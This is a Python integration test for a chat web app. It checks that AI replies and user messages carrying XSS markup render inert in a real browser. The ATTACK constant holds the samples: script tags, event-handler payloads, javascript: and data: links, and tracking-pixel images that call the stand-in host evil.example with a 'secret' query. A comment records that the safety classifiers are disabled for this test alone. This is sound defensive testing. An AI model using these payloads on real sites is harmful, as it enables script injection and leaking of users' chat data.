"""Replies (and messages) full of script, event handlers, script links and outside images render inert in a
real headless Chromium: no script runs, no dialog opens, no request leaves for another host.

The model is the scripted one (production seam) so the reply is exactly the attack. The page watches for a
script running three ways, and a control at the start proves each detector fires when something does run.
"""

from __future__ import annotations

import time
from collections.abc import Iterator
from dataclasses import dataclass, field
from typing import Any
from urllib.parse import urlparse

import pytest
from sqlalchemy import select

import tests.support.guard.scripted_model  # noqa: F401 - registers the "scripted" backend
from tests.support.app_server import RunningApp, run_app
from tests.support.guard.scripted_model import SCRIPT
from tests.support.paths import PROJECT_ROOT
from tests.support.resilience.chat_api import PASSWORD, create_user_with_key
from tests.support.settings import SettingsFactory
from webapp.guard.turn import TurnGuard
from webapp.store.migrate import upgrade
from webapp.store.models import Message

pytestmark = pytest.mark.integration

OUTSIDE = "evil.example"
ATTACK = "\n\n".join(
    [
        "Here you go.",
        "<script>window.__pwned = 'script'; alert('script')</script>",
        "<img src=x onerror=\"window.__pwned = 'img'; alert('img')\">",
        "<svg onload=\"window.__pwned = 'svg'\"><circle r=1 /></svg>",
        "<iframe src=\"javascript:window.top.__pwned = 'iframe'\"></iframe>",
        "<details open ontoggle=\"window.__pwned = 'details'\">x</details>",
        "[click me](javascript:window.__pwned='md-link';alert('md-link'))",
        "[click me too](JaVaScRiPt:alert('mixed-case'))",
        "<a href=\"javascript:window.__pwned='a'\">html link</a>",
        "[data link](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
        f"![tracking pixel](http://{OUTSIDE}/pixel.png?chat=secret)",
        f"![by reference][pic]\n\n[pic]: https://{OUTSIDE}/ref.png",
        f'<img src="https://{OUTSIDE}/raw.png">',
        "The end.",
    ]
)


@dataclass
class Watch:
    """What the page did: dialogs opened, and requests to other hosts, all aborted.

    ``outside`` are loads the page made by itself (images, scripts, fetches): never allowed. ``navigations``
    are pages opened by following a link, which only a click may cause.
    """

    dialogs: list[str] = field(default_factory=list)
    outside: list[str] = field(default_factory=list)
    navigations: list[str] = field(default_factory=list)

    def clear(self) -> None:
        self.dialogs.clear()
        self.outside.clear()
        self.navigations.clear()


@pytest.fixture(scope="module")
def app(tmp_path_factory: pytest.TempPathFactory, settings_factory: SettingsFactory) -> Iterator[RunningApp]:
    settings = settings_factory(
        data_dir=tmp_path_factory.mktemp("rendering"),
        rails_dir=PROJECT_ROOT / "rails",
        llm_backend="scripted",
        self_check_rails=False,
        # The attack reply is an exfiltration payload, which the learned reply rail may block (it scores
        # 0.8-0.9 as malware), and the user's message carrying it scores about 0.68 as prompt injection on the
        # learned request rail (blocked at 0.65). This test proves the last line of defence: markup that no
        # classifier stopped still renders inert. So the learned rails are off here, and only here.
        harmful_reply_threshold=1.0,
        harmful_request_threshold=1.0,
        jailbreak_threshold=1.0,
    )
    upgrade(settings.resolved_database_url)
    TurnGuard.clear_cache()
    with run_app(settings) as running:
        create_user_with_key(running.ctx.db, "alice")
        yield running
    TurnGuard.clear_cache()


def watched_page(browser: Any, app: RunningApp, watch: Watch) -> Any:
    context = browser.new_context(viewport={"width": 1280, "height": 900})
    app_host = urlparse(app.url).netloc

    def route(route: Any) -> None:
        if urlparse(route.request.url).netloc != app_host:
            navigating = route.request.resource_type == "document"
            (watch.navigations if navigating else watch.outside).append(route.request.url)
            route.abort()
        else:
            route.continue_()

    context.route("**/*", route)

    def dialog(opened: Any) -> None:
        watch.dialogs.append(opened.message)
        opened.dismiss()

    page = context.new_page()
    page.on("dialog", dialog)
    return page


def assert_inert(page: Any, watch: Watch, where: str, *, clicked: bool = False) -> None:
    assert watch.dialogs == [], f"{where}: a script opened a dialog: {watch.dialogs}"
    assert watch.outside == [], f"{where}: the page fetched from another host: {watch.outside}"
    if not clicked:
        assert watch.navigations == [], f"{where}: the page navigated away by itself: {watch.navigations}"
    assert all(url.startswith(("http://", "https://")) for url in watch.navigations), watch.navigations
    assert page.evaluate("() => window.__pwned ?? null") is None, f"{where}: a script ran"
    chat = page.locator("#gc-chat")
    dangerous = chat.evaluate(
        """(root) => {
            const found = [];
            for (const el of root.querySelectorAll('*')) {
                for (const attr of el.getAttributeNames()) {
                    const value = (el.getAttribute(attr) || '').trim().toLowerCase();
                    if (attr.startsWith('on')) found.push(`${el.tagName} ${attr}`);
                    if (['href', 'src', 'xlink:href', 'action', 'formaction'].includes(attr)
                        && /^(javascript|data|vbscript):/.test(value)) found.push(`${el.tagName} ${attr}=${value}`);
                }
                if (['SCRIPT', 'IFRAME', 'OBJECT', 'EMBED'].includes(el.tagName)) found.push(el.tagName);
                if (el.tagName === 'IMG' && !(el.getAttribute('src') || '').startsWith('/')
                    && !(el.getAttribute('src') || '').startsWith(location.origin)) found.push(`IMG ${el.src}`);
            }
            return found;
        }"""
    )
    assert dangerous == [], f"{where}: live markup in the chat: {dangerous}"


def click_every_link(page: Any) -> int:
    """Click each link in the chat (a plain link to a web page is fine; one that runs script is not)."""
    links = page.locator("#gc-chat a")
    for index in range(links.count()):
        link = links.nth(index)
        if link.is_visible():
            link.click(no_wait_after=True, timeout=5_000)
    return int(links.count())


def wait_for_reply(app: RunningApp, count: int) -> Message:
    deadline = time.monotonic() + 120
    while time.monotonic() < deadline:
        with app.ctx.db.read() as s:
            replies = list(s.scalars(select(Message).where(Message.role == "assistant").order_by(Message.id)))
        if len(replies) >= count and replies[count - 1].status not in ("pending", "streaming"):
            return replies[count - 1]
        time.sleep(0.1)
    raise AssertionError("the reply did not finish")


def sign_in(page: Any, app: RunningApp) -> None:
    page.goto(f"{app.url}/login", wait_until="load")
    page.fill("#username", "alice")
    page.fill("#password", PASSWORD)
    page.click("button[type=submit]")
    page.wait_for_selector("#gc-input textarea")


def test_the_detectors_see_a_script_that_runs(app: RunningApp, browser: Any) -> None:
    """The control: without it, the test below would pass just as well if the watching were broken."""
    watch = Watch()
    page = watched_page(browser, app, watch)
    page.goto(f"{app.url}/login", wait_until="load")
    page.evaluate(f"() => {{ window.__pwned = 'control'; alert('control'); fetch('http://{OUTSIDE}/c') }}")
    deadline = time.monotonic() + 30
    while not watch.outside and time.monotonic() < deadline:
        page.wait_for_timeout(50)
    assert watch.dialogs == ["control"] and watch.outside == [f"http://{OUTSIDE}/c"]
    assert page.evaluate("() => window.__pwned") == "control"
    page.context.close()


def test_attack_markup_in_replies_and_messages_renders_inert(app: RunningApp, browser: Any) -> None:
    SCRIPT.reset()
    SCRIPT.reply = lambda user_text: ATTACK
    watch = Watch()
    page = watched_page(browser, app, watch)
    sign_in(page, app)
    # The user's own message carries the attack too: it is shown back (and to moderators) the same way.
    page.locator("#gc-input textarea").fill(f"Render this safely please: {ATTACK}")
    page.locator("#gc-send").click()
    reply = wait_for_reply(app, 1)
    assert reply.status == "complete", (reply.status, reply.content)
    page.wait_for_selector("#gc-stop", state="hidden", timeout=60_000)
    page.wait_for_selector("#gc-chat [data-testid=bot] :text('The end.')")
    assert_inert(page, watch, "streamed reply")
    assert click_every_link(page) > 0
    assert_inert(page, watch, "after clicking every link", clicked=True)
    page.context.close()

    # The same conversation rendered from the database, in a fresh browser, then its links clicked.
    history_watch = Watch()
    history = watched_page(browser, app, history_watch)
    sign_in(history, app)
    history.goto(f"{app.url}/?c={reply.conversation_id}", wait_until="load")
    history.wait_for_selector("#gc-chat [data-testid=bot] :text('The end.')")
    assert_inert(history, history_watch, "history")
    click_every_link(history)
    assert_inert(history, history_watch, "after clicking every link in the history", clicked=True)
    # The text is still there for the user to read, as text.
    shown = history.locator("#gc-chat [data-testid=bot]").first.inner_text()
    assert "<script>" in shown and "javascript:" in shown.lower() and OUTSIDE in shown
    history.context.close()
